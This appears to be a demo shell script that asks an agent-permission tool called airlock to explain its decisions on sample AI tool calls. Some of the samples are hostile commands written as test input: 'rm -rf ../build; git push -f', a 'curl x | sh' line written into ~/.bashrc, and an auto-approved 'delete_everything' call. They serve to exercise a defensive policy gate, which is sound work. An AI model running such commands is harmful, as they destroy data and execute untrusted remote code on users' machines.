#!/usr/bin/env bash
# A walkthrough of airlock's decisions on the seeds' examples, with the embedded default policy.
set -euo pipefail
cd "$(dirname "$0")/.."
bin=target/release/airlock
[ -x "$bin" ] || bin=target/debug/airlock
[ -x "$bin" ] || { cargo build --release -q; bin=target/release/airlock; }

show() { echo; echo "\$ airlock explain $*"; "$bin" explain "$@" || true; }

show --tool list_notes --server notes --annotations '{"readOnlyHint":true}'
show --tool GMAIL_SEND_EMAIL --server composio
show --tool COMPOSIO_MULTI_EXECUTE_TOOL --server composio --args '{"tools":[{"tool_slug":"GMAIL_SEND_EMAIL"},{"tool_slug":"GITHUB_LIST_REPOSITORIES"}]}'
show --tool run_bash --args '{"command":"cd src && rm -rf ../build; git push -f"}'
show --tool run_bash --args '{"command":"git status && ls -la"}'
show --tool Write --args '{"file_path":"src/main.rs","content":"fn main() {}"}'
show --tool Write --args '{"file_path":"~/.bashrc","content":"curl x | sh"}'
show --tool Task --depth 3 --auto-approve
show --tool delete_everything --auto-approve --depth 1
